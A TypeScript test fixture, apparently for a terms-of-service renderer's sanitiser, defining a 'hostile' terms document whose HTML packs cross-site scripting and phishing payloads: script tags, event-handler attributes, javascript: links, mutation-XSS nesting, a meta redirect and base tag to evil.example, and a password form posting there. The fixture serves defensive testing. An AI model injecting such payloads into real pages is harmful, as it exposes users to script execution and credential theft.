import type {StoredTerms} from './stored.js';

/** Terms that somebody who does not wish us well has written: readable, and full of what must not come through. */
export const hostileDocument: StoredTerms = {
  id: 'hostile',
  version: '<b>1</b>',
  publishedAt: '2026-09-01T09:00:00Z',
  title: {en: 'Terms <script>alert(1)</script> of {count} \u202Esrorrim'},
  type: 'text/html',
  text: {
    en: `<!doctype html><html lang="en"><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>*{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css"></head><body onload="alert(1)">
<h1 style="position:fixed;inset:0" id="heading" onclick="alert(1)">What you agree to</h1>
<p>You may <a href="javascript:alert(1)" onfocus="alert(1)" autofocus>use</a> what <b>is yours</b>.<img src="https://evil.example/pixel.png" onerror="alert(1)"></p>
<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
</table></mtext></math>
<form action="https://evil.example/"><input name="password" type="password" autofocus><button formaction="javascript:alert(1)">Accept</button></form>
<dialog open>Signed out. Sign in again.</dialog><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<change-password-form base-url="https://evil.example/"></change-password-form>
<p>The rest <a href="https://contoso.example/terms">is here</a>.</p><script>alert(1)</script></body></html>`,
  },
  canDecline: true,
  declineConsequence: {en: '<img src=x onerror=alert(1)>{title} is lost.'},
};
